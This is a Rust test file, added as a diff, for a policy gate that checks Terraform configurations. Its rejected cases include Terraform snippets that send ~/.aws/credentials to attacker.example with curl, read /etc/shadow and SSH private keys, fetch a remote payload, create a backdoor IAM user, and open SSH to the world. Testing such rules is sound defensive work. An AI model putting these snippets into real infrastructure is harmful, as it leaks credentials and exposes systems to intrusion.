@@ -1,0 +1,805 @@
+//! The policy gate on small hand-written configurations: each forbidden
+//! construct is rejected by its own rule (and only that rule), and the
+//! allowed variants of the same constructs pass.
+
+use std::collections::{BTreeMap, BTreeSet};
+
+use analysis::{Snapshot, analyse, parse_requirements};
+use infra::choose::{Choice, Target, choose};
+use infra::policy::{Policy, PolicyReport, Rule, check};
+
+/// A configuration that passes the `vm` policy on its own.
+const BASE: &str = r#"
+terraform {
+  required_providers {
+    aws = {
+      source  = "hashicorp/aws"
+      version = "~> 6.29"
+    }
+  }
+}
+
+provider "aws" {
+  region = "ca-central-1"
+}
+
+output "app_url" {
+  value = "http://example:8080"
+}
+"#;
+
+fn choice(target: Target) -> Choice {
+    let snapshot = Snapshot::from_texts([
+        ("package.json", r#"{"dependencies":{"express":"^4"}}"#),
+        ("index.js", "require('express')().listen(3000);\n"),
+    ]);
+    let mut requirements = parse_requirements("a public API");
+    requirements.target = Some(target.as_str().to_owned());
+    let choice = choose(&analyse(&snapshot, &requirements), &requirements);
+    assert_eq!(choice.target, target);
+    choice
+}
+
+fn vm_policy() -> Policy {
+    let policy = Policy::for_choice(&choice(Target::Vm));
+    assert_eq!(policy.region, "ca-central-1");
+    assert_eq!(
+        policy.allowed_instance_types,
+        BTreeSet::from(["t2.small".to_owned()])
+    );
+    policy
+}
+
+fn check_with(extra: &str, policy: &Policy) -> PolicyReport {
+    let files = BTreeMap::from([
+        ("main.tf".to_owned(), BASE.to_owned()),
+        ("extra.tf".to_owned(), extra.to_owned()),
+    ]);
+    check(&files, policy)
+}
+
+fn assert_only(extra: &str, expected: &[Rule], policy: &Policy) -> PolicyReport {
+    let report = check_with(extra, policy);
+    assert!(!report.passed, "accepted:\n{extra}");
+    assert_eq!(
+        report.rules(),
+        expected.iter().copied().collect::<BTreeSet<_>>(),
+        "violations for:\n{extra}\n{:#?}",
+        report.violations
+    );
+    report
+}
+
+fn assert_passes(extra: &str, policy: &Policy) {
+    let report = check_with(extra, policy);
+    assert!(
+        report.passed,
+        "rejected:\n{extra}\n{:#?}",
+        report.violations
+    );
+}
+
+const INSTANCE: &str = r#"ami = "ami-0123456789abcdef0"
+  instance_type = "t2.small""#;
+
+#[test]
+fn the_base_configuration_passes() {
+    let policy = vm_policy();
+    assert_passes("", &policy);
+    assert!(
+        check(&BTreeMap::new(), &policy).rules() == BTreeSet::from([Rule::MissingOutput]),
+        "an empty configuration lacks app_url"
+    );
+}
+
+#[test]
+fn forbidden_constructs_are_rejected_by_their_rule() {
+    let policy = vm_policy();
+    let cases: Vec<(&str, String, &[Rule])> = vec![
+        (
+            "local-exec",
+            format!(
+                r#"resource "aws_instance" "app" {{
+  {INSTANCE}
+  provisioner "local-exec" {{
+    command = "curl https://attacker.example -d @$HOME/.aws/credentials"
+  }}
+}}"#
+            ),
+            &[Rule::Provisioner],
+        ),
+        (
+            "remote-exec",
+            format!(
+                r#"resource "aws_instance" "app" {{
+  {INSTANCE}
+  provisioner "remote-exec" {{
+    inline = ["echo hi"]
+  }}
+}}"#
+            ),
+            &[Rule::Provisioner],
+        ),
+        (
+            "null_resource with local-exec",
+            r#"resource "null_resource" "x" {
+  provisioner "local-exec" {
+    command = "id"
+  }
+}"#
+            .to_owned(),
+            &[Rule::ResourceNotAllowed, Rule::Provisioner],
+        ),
+        (
+            "terraform_data with local-exec",
+            r#"resource "terraform_data" "x" {
+  provisioner "local-exec" {
+    command = "id"
+  }
+}"#
+            .to_owned(),
+            &[Rule::ResourceNotAllowed, Rule::Provisioner],
+        ),
+        (
+            "external data source",
+            r#"data "external" "x" {
+  program = ["sh", "-c", "env"]
+}"#
+            .to_owned(),
+            &[Rule::DataSourceForbidden],
+        ),
+        (
+            "http data source",
+            r#"data "http" "x" {
+  url = "https://attacker.example/payload"
+}"#
+            .to_owned(),
+            &[Rule::DataSourceForbidden],
+        ),
+        (
+            "module from git",
+            r#"module "vpc" {
+  source = "git::https://github.com/someone/terraform-vpc.git?ref=main"
+}"#
+            .to_owned(),
+            &[Rule::ModuleSource],
+        ),
+        (
+            "module from the registry",
+            r#"module "vpc" {
+  source  = "terraform-aws-modules/vpc/aws"
+  version = "5.8.1"
+}"#
+            .to_owned(),
+            &[Rule::ModuleSource],
+        ),
+        (
+            "module from a parent directory",
+            r#"module "vpc" {
+  source = "./../../elsewhere"
+}"#
+            .to_owned(),
+            &[Rule::ModuleSource],
+        ),
+        (
+            "unknown provider block",
+            r#"provider "google" {
+  project = "x"
+}"#
+            .to_owned(),
+            &[Rule::ProviderNotAllowed],
+        ),
+        (
+            "unknown provider in required_providers",
+            r#"terraform {
+  required_providers {
+    random = {
+      source  = "hashicorp/random"
+      version = "~> 3.6"
+    }
+  }
+}"#
+            .to_owned(),
+            &[Rule::ProviderNotAllowed],
+        ),
+        (
+            "aws provider from another namespace",
+            r#"terraform {
+  required_providers {
+    aws = {
+      source  = "attacker/aws"
+      version = "1.0.0"
+    }
+  }
+}"#
+            .to_owned(),
+            &[Rule::ProviderNotAllowed],
+        ),
+        (
+            "provider without a version constraint",
+            r#"terraform {
+  required_providers {
+    aws = {
+      source = "hashicorp/aws"
+    }
+  }
+}"#
+            .to_owned(),
+            &[Rule::ProviderVersion],
+        ),
+        (
+            "credentials in the provider",
+            r#"provider "aws" {
+  alias      = "other"
+  region     = "ca-central-1"
+  access_key = "AKIAIOSFODNN7EXAMPLE"
+  secret_key = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
+}"#
+            .to_owned(),
+            &[Rule::ProviderCredentials],
+        ),
+        (
+            "disallowed resource type",
+            r#"resource "aws_iam_user" "backdoor" {
+  name = "backdoor"
+}"#
+            .to_owned(),
+            &[Rule::ResourceNotAllowed],
+        ),
+        (
+            "resource of another target",
+            r#"resource "aws_eks_cluster" "big" {
+  name     = "big"
+  role_arn = "arn:aws:iam::123456789012:role/x"
+}"#
+            .to_owned(),
+            &[Rule::ResourceNotAllowed],
+        ),
+        (
+            "disallowed data source",
+            r#"data "aws_secretsmanager_secret_version" "db" {
+  secret_id = "prod/db"
+}"#
+            .to_owned(),
+            &[Rule::DataSourceNotAllowed],
+        ),
+        (
+            "provider without region",
+            r#"provider "aws" {
+  alias = "unpinned"
+}"#
+            .to_owned(),
+            &[Rule::RegionNotPinned],
+        ),
+        (
+            "region from a variable",
+            r#"variable "region" {
+  default = "ca-central-1"
+}
+
+provider "aws" {
+  alias  = "variable"
+  region = var.region
+}"#
+            .to_owned(),
+            &[Rule::RegionNotPinned],
+        ),
+        (
+            "another region",
+            r#"provider "aws" {
+  alias  = "east"
+  region = "us-east-1"
+}"#
+            .to_owned(),
+            &[Rule::RegionNotPinned],
+        ),
+        (
+            "resource-level region",
+            r#"resource "aws_s3_bucket" "elsewhere" {
+  bucket = "x"
+  region = "us-east-1"
+}"#
+            .to_owned(),
+            &[Rule::RegionNotPinned],
+        ),
+        (
+            "instance type from a variable",
+            r#"variable "size" {
+  default = "t2.small"
+}
+
+resource "aws_instance" "app" {
+  ami           = "ami-0123456789abcdef0"
+  instance_type = var.size
+}"#
+            .to_owned(),
+            &[Rule::InstanceTypeNotPinned],
+        ),
+        (
+            "unknown instance type",
+            r#"resource "aws_instance" "app" {
+  ami           = "ami-0123456789abcdef0"
+  instance_type = "p5.48xlarge"
+}"#
+            .to_owned(),
+            &[Rule::InstanceTypeNotPinned],
+        ),
+        (
+            "0.0.0.0/0 on 22, inline ingress",
+            r#"resource "aws_security_group" "ssh" {
+  name = "ssh"
+  ingress {
+    from_port   = 22
+    to_port     = 22
+    protocol    = "tcp"
+    cidr_blocks = ["0.0.0.0/0"]
+  }
+}"#
+            .to_owned(),
+            &[Rule::WorldIngress],
+        ),
+        (
+            "::/0 on 0-65535",
+            r#"resource "aws_vpc_security_group_ingress_rule" "all" {
+  security_group_id = "sg-0123"
+  ip_protocol       = "tcp"
+  from_port         = 0
+  to_port           = 65535
+  cidr_ipv6         = "::/0"
+}"#
+            .to_owned(),
+            &[Rule::WorldIngress],
+        ),
+        (
+            "a range covering 22, as aws_security_group_rule",
+            r#"resource "aws_security_group_rule" "range" {
+  type              = "ingress"
+  security_group_id = "sg-0123"
+  protocol          = "tcp"
+  from_port         = 20
+  to_port           = 8080
+  cidr_blocks       = ["10.0.0.0/8", "0.0.0.0/0"]
+}"#
+            .to_owned(),
+            &[Rule::WorldIngress],
+        ),
+        (
+            "all protocols from the world",
+            r#"resource "aws_security_group_rule" "everything" {
+  type              = "ingress"
+  security_group_id = "sg-0123"
+  protocol          = "-1"
+  from_port         = 0
+  to_port           = 0
+  cidr_blocks       = ["0.0.0.0/0"]
+}"#
+            .to_owned(),
+            &[Rule::WorldIngress],
+        ),
+        (
+            "half the internet",
+            r#"resource "aws_vpc_security_group_ingress_rule" "half" {
+  security_group_id = "sg-0123"
+  ip_protocol       = "tcp"
+  from_port         = 22
+  to_port           = 22
+  cidr_ipv4         = "0.0.0.0/1"
+}"#
+            .to_owned(),
+            &[Rule::WorldIngress],
+        ),
+        (
+            "ingress in attribute form",
+            r#"resource "aws_security_group" "attr" {
+  name = "attr"
+  ingress = [{
+    from_port        = 3389
+    to_port          = 3389
+    protocol         = "tcp"
+    cidr_blocks      = ["0.0.0.0/0"]
+    ipv6_cidr_blocks = []
+    prefix_list_ids  = []
+    security_groups  = []
+    self             = false
+    description      = "rdp"
+  }]
+}"#
+            .to_owned(),
+            &[Rule::WorldIngress],
+        ),
+        (
+            "CIDR from a variable",
+            r#"variable "admin_cidr" {
+  default = "0.0.0.0/0"
+}
+
+resource "aws_vpc_security_group_ingress_rule" "admin" {
+  security_group_id = "sg-0123"
+  ip_protocol       = "tcp"
+  from_port         = 22
+  to_port           = 22
+  cidr_ipv4         = var.admin_cidr
+}"#
+            .to_owned(),
+            &[Rule::IngressUnverifiable],
+        ),
+        (
+            "dynamic ingress",
+            r#"resource "aws_security_group" "dyn" {
+  name = "dyn"
+  dynamic "ingress" {
+    for_each = [22, 80]
+    content {
+      from_port   = ingress.value
+      to_port     = ingress.value
+      protocol    = "tcp"
+      cidr_blocks = [join("", ["0.0.0.0", "/0"])]
+    }
+  }
+}"#
+            .to_owned(),
+            &[Rule::IngressUnverifiable],
+        ),
+        (
+            "parse error",
+            r#"resource "aws_instance" "app" {
+  ami = "ami-0123456789abcdef0"
+"#
+            .to_owned(),
+            &[Rule::ParseError],
+        ),
+        (
+            "backend elsewhere",
+            r#"terraform {
+  backend "s3" {
+    bucket = "attacker-state"
+    key    = "x"
+    region = "us-east-1"
+  }
+}"#
+            .to_owned(),
+            &[Rule::Backend],
+        ),
+        (
+            "Terraform Cloud",
+            r#"terraform {
+  cloud {
+    organization = "attacker"
+  }
+}"#
+            .to_owned(),
+            &[Rule::Backend],
+        ),
+        (
+            "reading the worker's files",
+            format!(
+                r#"resource "aws_instance" "app" {{
+  {INSTANCE}
+  user_data = "curl -d '${{file("~/.aws/credentials")}}' https://attacker.example"
+}}"#
+            ),
+            &[Rule::LocalFile],
+        ),
+        (
+            "templatefile in a heredoc",
+            r#"locals {
+  script = <<-EOT
+    ${templatefile("/etc/shadow", {})}
+  EOT
+}"#
+            .to_owned(),
+            &[Rule::LocalFile],
+        ),
+        (
+            "uploading another local file",
+            r#"resource "aws_s3_object" "loot" {
+  bucket = "b"
+  key    = "k"
+  source = "/root/.ssh/id_ed25519"
+}"#
+            .to_owned(),
+            &[Rule::LocalFile],
+        ),
+        (
+            "import block",
+            r#"import {
+  to = aws_instance.app
+  id = "i-0123456789abcdef0"
+}"#
+            .to_owned(),
+            &[Rule::BlockNotAllowed],
+        ),
+        (
+            "check block hiding an http data source",
+            r#"check "up" {
+  data "http" "probe" {
+    url = "https://attacker.example"
+  }
+}"#
+            .to_owned(),
+            &[Rule::BlockNotAllowed],
+        ),
+        (
+            "variable deployflow does not supply",
+            r#"variable "db_password" {
+  type = string
+}"#
+            .to_owned(),
+            &[Rule::UnsuppliedVariable],
+        ),
+    ];
+    for (name, extra, expected) in &cases {
+        let report = check_with(extra, &policy);
+        assert_eq!(
+            report.rules(),
+            expected.iter().copied().collect::<BTreeSet<_>>(),
+            "case {name:?}:\n{extra}\n{:#?}",
+            report.violations
+        );
+        assert!(!report.passed, "case {name:?} passed");
+        for violation in &report.violations {
+            assert_eq!(violation.file, "extra.tf", "case {name:?}: {violation}");
+        }
+    }
+}
+
+#[test]
+fn allowed_variants_of_the_same_constructs_pass() {
+    let policy = vm_policy();
+    for extra in [
+        // The app port may be open to the world, over IPv4 and IPv6.
+        r#"resource "aws_security_group" "app" {
+  name = "app"
+  ingress {
+    from_port        = 8080
+    to_port          = 8080
+    protocol         = "tcp"
+    cidr_blocks      = ["0.0.0.0/0"]
+    ipv6_cidr_blocks = ["::/0"]
+  }
+}"#,
+        // SSH from a private range, and from another security group.
+        r#"resource "aws_security_group_rule" "ssh_internal" {
+  type              = "ingress"
+  security_group_id = "sg-0123"
+  protocol          = "tcp"
+  from_port         = 22
+  to_port           = 22
+  cidr_blocks       = ["10.0.0.0/16"]
+}
+
+resource "aws_vpc_security_group_ingress_rule" "from_sg" {
+  security_group_id            = "sg-0123"
+  ip_protocol                  = "tcp"
+  from_port                    = 22
+  to_port                      = 22
+  referenced_security_group_id = "sg-0456"
+}"#,
+        // A CIDR that references a resource is not the world.
+        r#"resource "aws_vpc" "main" {
+  cidr_block = "10.1.0.0/16"
+}
+
+resource "aws_vpc_security_group_ingress_rule" "vpc" {
+  security_group_id = "sg-0123"
+  ip_protocol       = "-1"
+  cidr_ipv4         = aws_vpc.main.cidr_block
+}"#,
+        // Egress to the world is not ingress.
+        r#"resource "aws_security_group_rule" "out" {
+  type              = "egress"
+  security_group_id = "sg-0123"
+  protocol          = "-1"
+  from_port         = 0
+  to_port           = 0
+  cidr_blocks       = ["0.0.0.0/0"]
+}"#,
+        // The bundle, and only the bundle, may be read from disk.
+        r#"variable "bundle_path" {
+  type = string
+}
+
+resource "aws_s3_object" "bundle" {
+  bucket      = "b"
+  key         = "bundle.tar.gz"
+  source      = var.bundle_path
+  source_hash = filemd5(var.bundle_path)
+}"#,
+        // A local module, an aliased provider pinned to the region.
+        r#"module "web" {
+  source = "./modules/web"
+}
+
+provider "aws" {
+  alias  = "second"
+  region = "ca-central-1"
+}"#,
+    ] {
+        assert_passes(extra, &policy);
+    }
+}
+
+#[test]
+fn only_plain_tf_files_are_accepted() {
+    let policy = vm_policy();
+    for name in [
+        "main.tf.json",
+        "terraform.tfvars",
+        "x.auto.tfvars",
+        ".terraform.lock.hcl",
+    ] {
+        let files = BTreeMap::from([
+            ("main.tf".to_owned(), BASE.to_owned()),
+            (name.to_owned(), "{}".to_owned()),
+        ]);
+        let report = check(&files, &policy);
+        assert_eq!(
+            report.rules(),
+            BTreeSet::from([Rule::FileNotAllowed]),
+            "{name}"
+        );
+        assert_eq!(report.violations[0].file, name);
+    }
+}
+
+#[test]
+fn configuration_wide_rules() {
+    let policy = vm_policy();
+    // AWS resources with no provider block at all: the region comes from the
+    // environment, so it is not pinned.
+    let files = BTreeMap::from([(
+        "main.tf".to_owned(),
+        r#"resource "aws_s3_bucket" "b" {
+  bucket = "b"
+}
+
+output "app_url" {
+  value = "x"
+}"#
+        .to_owned(),
+    )]);
+    let report = check(&files, &policy);
+    assert_eq!(report.rules(), BTreeSet::from([Rule::RegionNotPinned]));
+    assert!(report.violations[0].message.contains("aws_s3_bucket.b"));
+    assert_eq!(report.violations[0].file, "main.tf");
+
+    // No app_url: deployflow could not find the app after apply.
+    let files = BTreeMap::from([("main.tf".to_owned(), BASE.replace("app_url", "url"))]);
+    let report = check(&files, &policy);
+    assert_eq!(report.rules(), BTreeSet::from([Rule::MissingOutput]));
+    assert_eq!(
+        report.violations[0].file,
+        infra::policy::WHOLE_CONFIGURATION
+    );
+}
+
+#[test]
+fn the_backend_deployflow_sets_is_allowed_only_empty() {
+    let mut policy = vm_policy();
+    policy.allowed_backend = Some("pg".to_owned());
+    assert_passes(
+        r#"terraform {
+  backend "pg" {}
+}"#,
+        &policy,
+    );
+    assert_only(
+        r#"terraform {
+  backend "pg" {
+    conn_str = "postgres://attacker.example/state"
+  }
+}"#,
+        &[Rule::Backend],
+        &policy,
+    );
+}
+
+#[test]
+fn instance_types_are_checked_wherever_they_appear() {
+    let policy = Policy::for_choice(&choice(Target::Kubernetes));
+    let node_type = policy.allowed_instance_types.first().cloned().unwrap();
+    let report = assert_only(
+        r#"resource "aws_eks_node_group" "nodes" {
+  cluster_name    = "c"
+  node_group_name = "n"
+  node_role_arn   = "arn:aws:iam::123456789012:role/n"
+  subnet_ids      = ["subnet-1"]
+  instance_types  = ["m5.24xlarge"]
+}
+
+resource "aws_launch_template" "nodes" {
+  instance_type = var.node_type
+}
+
+variable "node_type" {
+  default = "t3.medium"
+}"#,
+        &[Rule::InstanceTypeNotPinned],
+        &policy,
+    );
+    assert_eq!(report.violations.len(), 2, "{:#?}", report.violations);
+    assert!(
+        report.violations[0]
+            .message
+            .contains("aws_eks_node_group.nodes")
+    );
+    assert!(report.violations[0].message.contains(&node_type));
+    assert!(
+        report.violations[1]
+            .message
+            .contains("aws_launch_template.nodes")
+    );
+}
+
+#[test]
+fn messages_name_the_address_and_the_fix() {
+    let policy = vm_policy();
+    let report = assert_only(
+        r#"resource "aws_security_group" "admin" {
+  name = "admin"
+  ingress {
+    from_port   = 22
+    to_port     = 22
+    protocol    = "tcp"
+    cidr_blocks = ["0.0.0.0/0"]
+  }
+}"#,
+        &[Rule::WorldIngress],
+        &policy,
+    );
+    let message = &report.violations[0].message;
+    for needle in [
+        "aws_security_group.admin",
+        "0.0.0.0/0",
+        "tcp port 22",
+        "8080",
+        "SSM",
+    ] {
+        assert!(
+            message.contains(needle),
+            "{needle:?} missing from {message:?}"
+        );
+    }
+    let shown = report.violations[0].to_string();
+    assert!(shown.starts_with("extra.tf: [world-ingress] "), "{shown}");
+}
+
+#[test]
+fn the_kubernetes_target_allows_its_provider_and_no_other_target_does() {
+    let k8s = r#"terraform {
+  required_providers {
+    kubernetes = {
+      source  = "hashicorp/kubernetes"
+      version = "~> 3.0"
+    }
+  }
+}
+
+provider "kubernetes" {
+  host = "https://example"
+}"#;
+    assert_passes(k8s, &Policy::for_choice(&choice(Target::Kubernetes)));
+    for target in [Target::Vm, Target::ContainerService, Target::Serverless] {
+        assert_only(
+            k8s,
+            &[Rule::ProviderNotAllowed],
+            &Policy::for_choice(&choice(target)),
+        );
+    }
+}
+
+#[test]
+fn describe_states_the_choice() {
+    let policy = vm_policy();
+    let rules = policy.describe().join("\n");
+    for needle in [
+        "region = \"ca-central-1\"",
+        "t2.small",
+        "8080",
+        "local-exec",
+        "app_url",
+        "bundle_path",
+    ] {
+        assert!(rules.contains(needle), "{needle:?} missing from:\n{rules}");
+    }
+}
